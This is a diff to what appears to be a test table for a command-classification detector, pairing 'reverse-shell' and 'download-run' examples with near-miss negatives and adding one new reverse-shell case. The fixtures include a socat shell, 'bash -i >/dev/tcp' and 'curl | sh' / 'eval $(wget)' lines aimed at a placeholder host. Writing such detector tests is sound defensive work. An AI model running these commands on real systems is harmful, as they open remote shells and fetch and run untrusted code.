@@ -43,6 +43,8 @@ TABLE = [
     ("reverse-shell", "c", ["/tools/socat", "tcp:h:1", "exec:sh,pty"],
      "c", ["/tools/socat", "-", "tcp:h:1"]),
     ("reverse-shell", "c", sh("false && bash -i >/dev/tcp/h/1 0>&1"), "c", sh(": bash -i")),
+    ("reverse-shell", "c", ["act_exec", "net", "/bin/sh", "-c", "exec /bin/act_id"],
+     "c", ["act_exec", "net", "/bin/act_id"]),
     ("download-run", "c", sh("false && curl h | sh"), "c", sh("false && curl h | sort")),
     ("download-run", "c", sh("false && eval \"$(wget -qO- h)\""),
      "c", sh("false && x=$(wget -qO- h)")),
